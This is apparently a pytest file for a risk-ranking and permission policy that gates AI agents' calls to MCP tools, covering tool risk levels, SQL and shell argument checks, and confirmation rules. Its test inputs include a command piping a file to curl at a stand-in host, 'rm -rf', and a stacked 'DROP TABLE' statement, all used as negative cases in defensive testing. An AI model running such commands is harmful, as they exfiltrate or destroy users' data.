"""Risk dimensions (registry.dimensions), argument rules (registry.arguments) and the policy over them
(serve.policy), on tiny registries of MCP tools in the official tools/list format."""

from __future__ import annotations

import numpy as np
import pytest

from riskrank_jax.errors import ConfigError
from riskrank_jax.rank.ranker import Ranker
from riskrank_jax.registry import load_registry
from riskrank_jax.registry.arguments import judge_arguments, judge_shell, judge_sql
from riskrank_jax.registry.dimensions import (FLAGS, MODEL_OUTPUTS, MUTATIONS, DimensionPolicy, assess_dimensions,
                                              assessment_to_risk, keyword_hits, level_from_dimensions, must_confirm)
from riskrank_jax.serve.policy import Policy, decide
from riskrank_jax.serve.config import read_config


def _tool(name, description, props=None, annotations=None):
    t = {"name": name, "description": description,
         "inputSchema": {"type": "object", "properties": props or {}}}
    if annotations is not None:
        t["annotations"] = annotations
    return t


GITHUB = [
    _tool("merge_pull_request", "Merge a pull request in a GitHub repository",
          {"owner": {"type": "string"}, "repo": {"type": "string"}, "pull_number": {"type": "number"}}),
    _tool("push_files", "Push multiple files to a GitHub repository in a single commit",
          {"files": {"type": "array"}, "branch": {"type": "string"}}),
    _tool("get_file_contents", "Get the contents of a file or directory from a GitHub repository",
          {"path": {"type": "string"}, "auth_method": {"type": "string",
                                                       "description": "which credentials token to use"}},
          {"readOnlyHint": True}),
]
SLACK = [_tool("slack_post_message", "Post a new message to a Slack channel",
               {"channel_id": {"type": "string"}, "text": {"type": "string"}})]
EVERYTHING = [_tool("printEnv", "Prints all environment variables, helpful for debugging MCP server configuration",
                    {}, {"readOnlyHint": True})]
POSTGRES = [_tool("query", "Run a read-only SQL query", {"sql": {"type": "string"}})]
FILES = [_tool("write_note", "Write a note to the local notes folder", {"text": {"type": "string"}},
               {"readOnlyHint": False, "destructiveHint": False}),
         _tool("read_note", "Read a note from the local notes folder", {"name": {"type": "string"}},
               {"readOnlyHint": True})]


def _registry(*servers):
    return load_registry([(name, {"tools": tools}) for name, tools in servers])


def _probs(n, writes=0.5, destructive=0.5, **flags):
    """float32 [n, 7]: the same model output for every tool."""
    row = [writes, destructive] + [flags.get(f, 0.0) for f in FLAGS]
    return np.tile(np.array(row, np.float32), (n, 1))


def test_level_from_dimensions_is_the_documented_table():
    m = np.array([0, 0, 1, 2, 0, 0, 0, 1, 0])
    f = np.zeros((9, 5), bool)
    f[1, FLAGS.index("untrusted_content")] = True
    f[4, FLAGS.index("public_sink")] = True
    f[5, FLAGS.index("secret_source")] = True
    f[6, FLAGS.index("execution")] = True
    f[7, FLAGS.index("money")] = True
    f[8, FLAGS.index("untrusted_content")] = f[8, FLAGS.index("public_sink")] = True
    assert level_from_dimensions(m, f).tolist() == [1, 2, 3, 4, 4, 4, 4, 5, 4]
    assert must_confirm(m, f).tolist() == [False, False, False, True, True, True, True, True, True]


def test_unannotated_tools_of_an_untrusted_server_are_presumed_destructive():
    reg = _registry(("github", GITHUB), ("slack", SLACK))
    d = assess_dimensions(reg)  # no model: spec defaults and keywords only
    rows = {n: d.row(i) for i, n in enumerate(reg.names)}
    assert rows["merge_pull_request"]["mutation"] == {"value": "destructive", "source": "spec default: unannotated"}
    assert rows["merge_pull_request"]["public_sink"] == {"value": True, "source": "keywords:merge"}
    assert rows["push_files"]["public_sink"]["source"] == "keywords:push"
    assert rows["slack_post_message"]["public_sink"]["value"] is True
    # an untrusted readOnlyHint: true does not lower it either
    assert rows["get_file_contents"]["mutation"]["source"] == "spec default: untrusted readOnlyHint"
    assert d.levels.tolist() == [4, 4, 4, 4]


def test_only_a_confident_learned_judgement_brings_an_untrusted_tool_below_the_ask_threshold():
    reg = _registry(("github", GITHUB[2:]))  # get_file_contents, readOnlyHint true from an untrusted server
    reads = DimensionPolicy(learned_clears="reads", read_threshold=0.2)
    sure = assess_dimensions(reg, _probs(1, writes=0.05, destructive=0.01), reads)
    unsure = assess_dimensions(reg, _probs(1, writes=0.35, destructive=0.01), reads)
    assert (MUTATIONS[sure.mutation[0]], sure.sources[0][0], int(sure.levels[0])) == ("read", "learned", 1)
    assert (MUTATIONS[unsure.mutation[0]], int(unsure.levels[0])) == ("destructive", 4)
    # reversible: a confident "neither destroys nor sinks" clears a write to local_write (level 3)
    rev = DimensionPolicy(learned_clears="reversible", destructive_threshold=0.2, flag_threshold=0.3)
    w = assess_dimensions(reg, _probs(1, writes=0.9, destructive=0.1), rev)
    sink = assess_dimensions(reg, _probs(1, writes=0.9, destructive=0.1, public_sink=0.31), rev)
    assert (MUTATIONS[w.mutation[0]], int(w.levels[0])) == ("local_write", 3)
    assert int(sink.levels[0]) == 4 and sink.row(0)["public_sink"]["source"] == "learned"


def test_read_only_hint_false_is_evidence_the_model_cannot_overrule():
    reg = _registry(("files", FILES[:1]))
    d = assess_dimensions(reg, _probs(1, writes=0.01, destructive=0.01))
    assert d.row(0)["mutation"] == {"value": "destructive", "source": "mcp:readOnlyHint=false"}
    # trusted, the same annotations say a non-destructive write
    t = assess_dimensions(reg, _probs(1, writes=0.01, destructive=0.01), DimensionPolicy(trusted_sources=("files",)))
    assert t.row(0)["mutation"] == {"value": "local_write", "source": "mcp:destructiveHint=false (trusted)"}
    assert int(t.levels[0]) == 3


def test_trusted_read_only_hint_reads_but_a_secret_source_still_asks():
    reg = _registry(("files", FILES[1:]), ("everything", EVERYTHING))
    d = assess_dimensions(reg, None, DimensionPolicy(trust_annotations=True))
    assert d.row(0)["mutation"]["source"] == "mcp:readOnlyHint=true (trusted)" and int(d.levels[0]) == 1
    assert d.row(1)["secret_source"] == {"value": True, "source": "keywords:print env"}
    assert int(d.levels[1]) == 4


def test_keywords_read_the_name_and_description_not_the_parameters():
    reg = _registry(("github", GITHUB[2:]))
    assert "credentials" in reg.texts[0] and "token" in reg.texts[0]
    assert keyword_hits(reg.texts) == [{}]
    d = assess_dimensions(reg, None, DimensionPolicy(trust_annotations=True))
    assert not d.flags[0].any() and int(d.levels[0]) == 1


def test_keyword_floors_read_the_first_sentence_and_untrusted_content_the_whole_description():
    """Real descriptions of reads (the email and Home Assistant servers of the corpus) name destructive tools and
    "empty" results after their first sentence; those words raise nothing. The same words in the first sentence
    do, and a later "returns the issue's comments" still marks untrusted content."""
    reg = _registry(("mail", [
        _tool("find_email_folder", "Find which real mailbox folder(s) an email belongs to. Required before "
              "move_email or delete_email when the email was found in a virtual folder.", {}, {"readOnlyHint": True}),
        _tool("list_helpers", "List Home Assistant helpers of one type. Returns one page, possibly empty.", {},
              {"readOnlyHint": True}),
        _tool("delete_email", "Delete an email. It cannot be recovered (e.g. From the trash).", {}),
        _tool("get_issue", "Get one issue by number. Returns its body and the comments of other users.", {},
              {"readOnlyHint": True})]))
    d = assess_dimensions(reg, None, DimensionPolicy(trust_annotations=True))
    assert [MUTATIONS[int(m)] for m in d.mutation] == ["read", "read", "destructive", "read"]
    assert d.row(2)["mutation"]["source"] == "keywords:delete"
    assert [int(x) for x in d.levels[:2]] == [1, 1] and not d.flags[:2].any()
    assert d.row(3)["untrusted_content"]["value"] and not d.row(3)["public_sink"]["value"]
    assert "delete" in keyword_hits(reg.texts)[0].get("destructive", "")  # the whole text would have raised it


def test_argument_rules_are_found_for_sql_shell_and_code_tools():
    reg = _registry(("pg", POSTGRES), ("sh", [_tool("run_command", "Run a shell command",
                                                      {"command": {"type": "string"}})]),
                    ("py", [_tool("execute_python", "Execute Python code", {"code": {"type": "string"}})]),
                    ("github", GITHUB[:1]))
    assert assess_dimensions(reg).argument_rules == ("sql:sql", "shell:command", "code:code", "")


def test_assessment_to_risk_keeps_a_declared_risk_final():
    tools = [dict(POSTGRES[0], risk=2), SLACK[0]]
    reg = _registry(("x", tools))
    risk = assessment_to_risk(reg, assess_dimensions(reg))
    assert risk.levels.tolist() == [2, 4]
    assert risk.sources[0] == ("declared",)
    assert risk.sources[1] == ("destructive (spec default: unannotated), public_sink (keywords:post message)",)
    assert risk.scores.tolist() == [0.25, 0.75]
    assert np.isnan(risk.learned).all()


def test_probs_of_the_wrong_shape_are_refused():
    reg = _registry(("slack", SLACK))
    with pytest.raises(ValueError, match=r"probs must be \[1, 7\]"):
        assess_dimensions(reg, np.zeros((1, 3)))
    assert len(MODEL_OUTPUTS) == 7


# ------------------------------------------------------------------------------------------------ arguments


@pytest.mark.parametrize("sql, reads, rule", [
    ("SELECT * FROM users WHERE id = 1", True, "sql: one read-only statement (SELECT)"),
    ("WITH x AS (SELECT 1 AS a) SELECT a FROM x", True, "sql: one read-only statement (SELECT)"),
    ("SELECT count(*) FROM t UNION SELECT 2", True, "sql: one read-only statement (SELECT)"),
    ("DELETE FROM users WHERE id = 3", False, "sql: DELETE is not read-only"),
    ("SELECT 1; DROP TABLE users", False, "sql: 2 statements"),
    ("SELECT 1; SELECT 2", False, "sql: 2 statements"),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", False, "sql: SELECT with DELETE is not read-only"),
    ("SELECT * INTO copy FROM t", False, "sql: SELECT with INTO is not read-only"),
    ("SELECT * FROM t FOR UPDATE", False, "sql: SELECT FOR UPDATE is not read-only"),
    ("SELECT pg_terminate_backend(42)", False, "sql: SELECT calling pg_terminate_backend() is not read-only"),
    ("UPDATE t SET a = 1", False, "sql: UPDATE is not read-only"),
])
def test_sql_is_judged_by_parsing(sql, reads, rule):
    assert judge_sql(sql).reads is reads
    assert judge_sql(sql).rule == rule


def test_shell_and_code_arguments():
    assert judge_shell("ls -la /tmp").reads and judge_shell("git status").reads
    assert judge_shell("rm -rf build").rule == "shell: 'rm' is not a known read-only command"
    assert not judge_shell("cat notes.txt | curl -d @- example.com").reads
    assert not judge_shell("find . -name '*.tmp' -delete").reads
    assert judge_arguments("code:code", {"code": "print(1)"}).reads is False
    assert judge_arguments("sql:sql", {}).rule == "sql: argument 'sql' missing or not a string"
    assert judge_arguments("", {"sql": "SELECT 1"}) is None


# ------------------------------------------------------------------------------------------------ policy


def _decide(reg, d, i, policy=Policy(), arguments=None, flow=None):
    t = reg.tools[i]
    return decide(policy, (t.name,), int(d.levels[i]), d.source_text(i), d.row(i), arguments, flow)


def test_one_select_passes_a_delete_asks_and_the_rule_is_named():
    reg = _registry(("pg", POSTGRES))
    d = assess_dimensions(reg)
    assert int(d.levels[0]) == 4
    sel = _decide(reg, d, 0, arguments={"sql": "SELECT name FROM users LIMIT 5"})
    dele = _decide(reg, d, 0, arguments={"sql": "DELETE FROM users"})
    two = _decide(reg, d, 0, arguments={"sql": "SELECT 1; SELECT 2"})
    assert (sel.action, sel.rule) == ("allow", "sql: one read-only statement (SELECT)")
    assert "risk level 1 (read (sql: one read-only statement (SELECT)))" in sel.reason
    assert (dele.action, dele.rule) == ("confirm", "sql: DELETE is not read-only")
    assert "execution (sql: DELETE is not read-only)" in dele.reason
    assert (two.action, two.rule) == ("confirm", "sql: 2 statements")
    refuse = _decide(reg, d, 0, Policy(confirm="refuse"), {"sql": "DELETE FROM users"})
    assert refuse.action == "refuse" and "confirm: refuse" in refuse.reason


def test_default_policy_on_the_inspector_servers():
    reg = _registry(("github", GITHUB), ("slack", SLACK), ("everything", EVERYTHING), ("files", FILES))
    d = assess_dimensions(reg, None, DimensionPolicy(trusted_sources=("files",)))
    got = {reg.names[i]: _decide(reg, d, i).action for i in range(reg.size)}
    assert got == {"merge_pull_request": "confirm", "push_files": "confirm", "get_file_contents": "confirm",
                   "slack_post_message": "confirm", "printEnv": "confirm", "write_note": "allow",
                   "read_note": "allow"}
    why = _decide(reg, d, reg.names.index("push_files")).reason
    assert why == ("risk level 4 (destructive (spec default: unannotated), public_sink (keywords:push)) is above "
                   "allow_level 3: needs the user's confirmation")


def test_session_flow_asks_for_sinks_after_untrusted_content_even_when_allowed():
    reg = _registry(("slack", SLACK), ("files", FILES))
    d = assess_dimensions(reg, None, DimensionPolicy(trusted_sources=("files",)))
    pol = Policy(allow_dimensions=("public_sink", "destructive"))
    assert _decide(reg, d, 0, pol).action == "allow"
    after = _decide(reg, d, 0, pol, flow="fetch")
    assert (after.action, after.rule) == ("confirm", "session flow")
    assert "'fetch' returned untrusted content earlier in this session" in after.reason
    assert "public_sink / destructive call" in after.reason
    # an allow pattern does not override it; reads and local writes are untouched by it
    assert _decide(reg, d, 0, Policy(allow=("slack_post_message",)), flow="fetch").rule == "session flow"
    assert _decide(reg, d, 1, Policy(), flow="fetch").action == "allow"
    assert _decide(reg, d, 0, Policy(allow=("slack_post_message",), session_flow=False), flow="fetch").action == "allow"


def test_policy_names_dimensions():
    reg = _registry(("files", FILES))
    d = assess_dimensions(reg, None, DimensionPolicy(trusted_sources=("files",)))
    ask = _decide(reg, d, 0, Policy(ask_dimensions=("local_write",)))
    assert (ask.action, ask.rule) == ("confirm", "dimension")
    assert "the policy asks for local_write calls" in ask.reason
    with pytest.raises(ValueError, match="unknown dimension.*'delete'"):
        Policy(ask_dimensions=("delete",))
    # a declared level above allow_level is not released by allow_dimensions
    assert decide(Policy(allow_dimensions=("public_sink",)), ("x",), 4, "declared", None).action == "confirm"


def test_config_policy_names_dimensions(tmp_path):
    path = tmp_path / "servers.json"
    path.write_text('{"mcpServers": {"files": {"command": "python", "args": ["s.py"]}},\n'
                    ' "policy": {"ask_dimensions": ["public_sink"], "allow_dimensions": ["local_write"],\n'
                    '            "session_flow": false}}')
    pol = read_config(path).policy
    assert (pol.ask_dimensions, pol.allow_dimensions, pol.session_flow) == (("public_sink",), ("local_write",), False)
    path.write_text('{"mcpServers": {"files": {"command": "python"}},\n "policy": {"ask_dimensions": ["pushes"]}}')
    with pytest.raises(ConfigError, match=r"servers.json:2: policy.ask_dimensions: unknown dimension\(s\) pushes"):
        read_config(path)


def test_a_saved_ranker_keeps_its_risk_dimensions(tmp_path):
    reg = _registry(("pg", POSTGRES), ("slack", SLACK))
    d = assess_dimensions(reg)
    rows = tuple(d.row(i) for i in range(reg.size))
    r = Ranker.build(encoder_id="enc", tool_names=reg.names, tool_texts=reg.texts, tool_emb=np.eye(2, 4),
                     risk_levels=d.levels, risk_source=[d.source_text(i) for i in range(2)], risk_dimensions=rows)
    back = Ranker.load(r.save(tmp_path / "ranker"))
    assert back.risk_dimensions == rows and back.risk_dimensions[0]["argument_rule"] == "sql:sql"
    assert back.risk_source[1] == "destructive (spec default: unannotated), public_sink (keywords:post message)"
    with pytest.raises(Exception, match="1 risk dimension rows for 2 tools"):
        Ranker.build(encoder_id="enc", tool_names=reg.names, tool_emb=np.eye(2, 4), risk_levels=d.levels,
                     risk_dimensions=rows[:1])


def test_a_trusted_read_only_tool_is_no_learned_public_sink():
    reg = _registry(("ci", [_tool("wait_for_approval", "Wait until the change ticket is approved by a reviewer.",
                                  {"ticket": {"type": "string"}}, {"readOnlyHint": True})]))
    probs = _probs(1, writes=0.99, destructive=0.01, public_sink=0.9)
    trusted = assess_dimensions(reg, probs, DimensionPolicy(trusted_sources=("ci",), flag_threshold=0.5))
    untrusted = assess_dimensions(reg, probs, DimensionPolicy(flag_threshold=0.5))
    assert trusted.row(0)["public_sink"]["value"] is False and int(trusted.levels[0]) == 1
    assert untrusted.row(0)["public_sink"] == {"value": True, "source": "learned"} and int(untrusted.levels[0]) == 4
